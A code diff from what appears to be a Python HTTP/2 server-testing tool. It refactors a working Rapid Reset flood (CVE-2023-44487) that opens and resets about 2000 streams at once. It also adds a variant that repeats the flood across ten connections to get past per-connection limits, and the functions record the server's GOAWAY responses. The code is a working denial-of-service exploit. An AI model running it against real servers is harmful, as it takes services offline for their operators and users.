@@ -49,16 +49,32 @@ def hold(connection, seconds=0.3, answers=None):
 # Floods
 
 
-@attack
-def rapid_reset(target, streams=2000):
-    """CVE-2023-44487: open and reset in one breath."""
-    connection = Http2(target)
+def resets(connection, streams=2000):
     parts = []
     for _ in range(streams):
         request = connection.chat()
         parts += [*request, RstStreamFrame(request[0].stream_id, error_code=8)]
-    connection.raw(*parts)
+    return b"".join(part.serialize() for part in parts)
+
+
+@attack
+def rapid_reset(target):
+    """CVE-2023-44487: open and reset in one breath."""
+    connection = Http2(target)
+    connection.raw(resets(connection))
     return hold(connection, 2)
+
+
+@attack
+def rapid_reset_on_many_connections(target, connections=10):
+    """The same at once, so that a bound of each connection is not enough."""
+    held = [Http2(target) for _ in range(connections)]
+    # What is compressed is the same on each.
+    data = resets(held[0])
+    for connection in held:
+        connection.raw(data)
+    seen = [hold(connection, 2) for connection in held]
+    return {"goaways": sorted({str(each["goaway"]) for each in seen}), "ends": sorted({each["end"] for each in seen})}
 
 
 @attack
